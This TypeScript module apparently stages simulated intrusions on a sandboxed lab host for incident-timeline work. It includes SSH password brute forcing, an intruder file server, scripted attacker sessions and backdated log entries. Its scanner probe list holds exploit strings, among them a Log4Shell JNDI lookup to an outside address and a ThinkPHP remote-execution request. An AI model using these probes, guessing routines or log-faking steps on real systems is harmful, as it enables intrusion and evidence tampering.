// What an incident's script can do: act inside of the host and from addresses outside of it, and note the true moments.
import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fakedBy, loggersWith } from './clock.ts'
import type { Outcome, RunOptions } from './command.ts'
import { must } from './command.ts'
import { type Dress, dressOf } from './dress.ts'
import { boot, type Host } from './host.ts'
import type { MomentName } from './incident.ts'
import { type Past, pastLogs } from './past.ts'
import { project } from './places.ts'
import type { Values } from './scenario.ts'

/** `key`: the name of a key that `Dress.key` made. */
export type Secret = { readonly password: string } | { readonly key: string }

export interface Stage {
  readonly host: Host
  /** POOL, WALLET and the like, and SHOP: where the intruder's files are fetched from. */
  readonly values: Values
  /** The true moments so far, in milliseconds. */
  readonly truth: ReadonlyMap<MomentName, number>
  /** It happens now. */
  mark(moment: MomentName): void
  /** A shell script inside, in the control group of a service; it must succeed. */
  inside(script: string, options?: RunOptions & { readonly service?: string }): Promise<string>
  /** What cron would do when the minute comes: runs root's line in its own way, and logs it. */
  byCron(line: string, user?: string): Promise<void>
  /** A shell script at the other end of the cable, where every address is at home; `$HOST` is the host. It must succeed. */
  outside(script: string, env?: Values): Promise<string>
  /** Days pass: what writes logs and davylamp believe it is later, and the logs go on with what is said of that time. */
  later(hours: number, past?: Omit<Past, 'days' | 'until'>): Promise<void>
  /** Words before a command that make it believe in that later time. */
  clock(): readonly string[]
  /** Boots one more host and lays a cable to it; gives its stage and the addresses at this end and at its own. */
  another(name: string, dress: (dress: Dress) => void): Promise<{ readonly stage: Stage; readonly here: string; readonly there: string }>
  readonly others: readonly Host[]
  /** Tries passwords from an address (`to`: another address of the host), several connections at the same time; the right one may be among them, then sshd lets in and he hangs up. */
  guess(from: string, user: string, words: readonly string[], to?: string): Promise<void>
  /** Logs in by password or with a key file, and runs a command there. */
  ssh(from: string, user: string, by: Secret, command: string, to?: string): Promise<string>
  /** The same with a terminal, into which these lines are typed; sshd notes it in wtmp, and bash keeps its history. */
  session(from: string, user: string, by: Secret, lines: readonly string[]): Promise<string>
  /** A request from an address; `path` may begin with a port. Gives the body of the answer; posts when there is something to post. */
  http(from: string, path: string, body?: string, headers?: Values): Promise<string>
  /** The daily noise of scanners: requests for what is not there. */
  scan(from: string): Promise<void>
  /** What was made ready already. */
  readonly done: Set<string>
  publicKey(name: string): string
  /** What somebody who has stolen it holds. */
  privateKey(name: string): string
  /** Puts a file on the intruder's web server. */
  offer(name: string, content: string): void
  /** A folder outside, gone with the host. */
  readonly folder: string
}

export const hostAddress = '10.77.0.2'
/** Where the intruder's files lie; not a port on which the pool answers. */
const shop = '198.51.100.7:8088'
const options =
  '-oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null -oGlobalKnownHostsFile=/dev/null -oLogLevel=ERROR -oConnectTimeout=10 -oControlPath=none -F/dev/null'
/** sshd hangs up after six. */
const triesPerConnection = 5
const atOnce = 5

const probes = [
  '/.env',
  '/wp-login.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
  '/?x=%24%7Bjndi:ldap://192.0.2.200/a%7D',
  '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP',
  '/actuator/health',
]

/** `hops`: how many cables lie between this host and the one that is traced; each cable is a network of its own. */
export async function stageOn(host: Host, values: Values, hops = 0): Promise<Stage> {
  const folder = join(host.root, '../stage')
  const files = join(folder, 'shop')
  mkdirSync(files, { recursive: true, mode: 0o755 })
  await must('gcc', ['-O1', '-static', '-pthread', '-o', join(files, 'mimic'), join(project, 'lab/mimic.c')])
  host.outside(
    ['python3', '-m', 'http.server', shop.split(':')[1] ?? '', '--bind', '0.0.0.0', '--directory', files],
    {},
    join(folder, 'shop.log'),
  )
  const open = await host.beyond(['curl', '-sf', '--retry', '40', '--retry-delay', '0', '--retry-connrefused', `http://${shop}/`])
  if (open.status !== 0) throw new Error(`the intruder's web server did not open: ${open.stderr}`)
  const askpass = join(folder, 'askpass')
  // ssh calls it once for each prompt: the next word of the list.
  writeFileSync(askpass, '#!/bin/sh\nhead -n1 "$WORDS"; sed -i 1d "$WORDS"\n', { mode: 0o755 })
  const truth = new Map<MomentName, number>()
  let lists = 0
  const asked = (words: readonly string[]): Values => {
    lists += 1
    const list = join(folder, `words-${lists}`)
    writeFileSync(list, words.map(word => `${word}\n`).join(''))
    return { WORDS: list, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' }
  }
  const secret = (by: Secret): { readonly how: string; readonly env: Values } =>
    'key' in by
      ? { how: `-i ${join(folder, by.key)} -oIdentitiesOnly=yes -oPasswordAuthentication=no`, env: {} }
      : { how: '-oPubkeyAuthentication=no -oNumberOfPasswordPrompts=1', env: asked([by.password]) }
  let shift = 0
  const others: Host[] = []
  const neighbours: Stage[] = []
  const stage: Stage = {
    host,
    folder,
    values: { ...values, SHOP: shop, HOST: hostAddress },
    truth,
    mark: moment => void truth.set(moment, Date.now() + shift),
    inside: async (script, { service = 'cron.service', ...more } = {}) =>
      told(
        await host.inside(['sh', '-eu', '-c', script], { timeoutMs: 60_000, ...more, service, env: { ...stage.values, ...more.env } }),
        script,
      ),
    byCron: async (line, user = 'root') => {
      const home = user === 'root' ? '/root' : `/home/${user}`
      const clean = `env -i HOME=${home} LOGNAME=${user} SHELL=/bin/sh PATH=/usr/bin:/bin`
      const as = user === 'root' ? '' : `setpriv --reuid=${user} --regid=${user} --init-groups `
      await stage.inside(`logger -p cron.info -t CRON --id=$$ "(${user}) CMD ($LINE)"; cd ${home}; exec ${as}${clean} /bin/sh -c "$LINE"`, {
        env: { LINE: line },
      })
    },
    outside: async (script, env = {}) =>
      told(await host.beyond(['sh', '-eu', '-c', script], { timeoutMs: 60_000, env: { ...stage.values, ...env } }), script),
    guess: async (from, user, words, to = hostAddress) => {
      const rounds = Array.from({ length: Math.ceil(words.length / triesPerConnection) }, (_, n) =>
        words.slice(n * triesPerConnection, (n + 1) * triesPerConnection),
      )
      const worker = async (): Promise<void> => {
        for (let own = rounds.shift(); own !== undefined; own = rounds.shift()) {
          const command = `ssh ${options} -b ${from} -oPubkeyAuthentication=no -oNumberOfPasswordPrompts=${own.length} ${user}@${to} true`
          await host.beyond(['sh', '-c', command], { env: asked(own), timeoutMs: 60_000 })
        }
      }
      await Promise.all(Array.from({ length: atOnce }, worker))
    },
    ssh: (from, user, by, command, to = hostAddress) => {
      const { how, env } = secret(by)
      return stage.outside(`exec ssh ${options} -b ${from} ${how} ${user}@${to} "$COMMAND"`, { ...env, COMMAND: command })
    },
    session: (from, user, by, lines) => {
      const { how, env } = secret(by)
      const typed = `(sleep 1; printf '%s\\n' "$TYPED"; sleep 1; echo exit) | ssh -tt ${options} -b ${from} ${how} ${user}@${hostAddress}`
      return stage.outside(typed, { ...env, TYPED: lines.join('\n') })
    },
    later: async (hours, past = {}) => {
      shift = hours * 3_600_000
      await loggersWith(stage, fakedBy(shift / 1000))
      const now = Date.now()
      const days = Math.ceil(hours / 24)
      for (const { path, content } of pastLogs({ ...past, days, until: 0 }, now + shift)) {
        if (!/(?:log|syslog)$/.test(path) || typeof content !== 'string') continue
        const fresh = content.split('\n').filter(line => Date.parse(line.slice(0, 32)) > now)
        appendFileSync(join(host.root, path), `${fresh.join('\n')}\n`)
      }
    },
    clock: () => (shift === 0 ? [] : ['env', ...Object.entries(fakedBy(shift / 1000)).map(([name, value]) => `${name}=${value}`)]),
    another: async (name, dress) => {
      const other = await boot(name, 'doors', root => dress(dressOf(root)))
      others.push(other)
      const subnet = hops * 10 + others.length
      const [here, there] = [`10.78.${subnet}.1`, `10.78.${subnet}.2`]
      const at = (who: Host, ...args: string[]) => must('nsenter', ['-t', `${who.leader.pid}`, '-n', 'ip', ...args])
      const [mine, theirs] = [`lan${subnet}`, 'lan0']
      await at(host, 'link', 'add', mine, 'type', 'veth', 'peer', 'name', 'lanpeer')
      await at(host, 'link', 'set', 'lanpeer', 'netns', `${other.leader.pid}`)
      await at(other, 'link', 'set', 'lanpeer', 'name', theirs)
      for (const [who, link, address] of [
        [host, mine, here],
        [other, theirs, there],
      ] as const) {
        await at(who, 'addr', 'add', `${address}/24`, 'dev', link)
        await at(who, 'link', 'set', link, 'up')
      }
      const its = await stageOn(other, values, hops + 1)
      neighbours.push(its)
      return { stage: its, here, there }
    },
    get others() {
      return [...others, ...neighbours.flatMap(one => one.others)]
    },
    done: new Set(),
    http: (from, path, body, headers = {}) => {
      const more = Object.entries(headers).flatMap(([name, value]) => ['-H', `${name}: ${value}`])
      const post = body === undefined ? [] : ['--data-binary', '@-']
      const url = `http://${hostAddress}${path}`
      return host
        .beyond(['curl', '-sS', '-g', '-m', '30', '--interface', from, ...more, ...post, url], { input: body ?? '', timeoutMs: 40_000 })
        .then(outcome => told(outcome, url))
    },
    scan: async from => {
      for (const path of probes) await stage.http(from, path)
    },
    publicKey: name => readFileSync(join(folder, `${name}.pub`), 'utf8').trim(),
    privateKey: name => readFileSync(join(folder, name), 'utf8'),
    offer: (name, content) => writeFileSync(join(files, name), content),
  }
  return stage
}

function told({ status, stdout, stderr }: Outcome, script: string): string {
  if (status !== 0) throw new Error(`status ${status}: ${script.slice(0, 200)}\n${stderr.slice(-1500)}${stdout.slice(-500)}`)
  return stdout
}
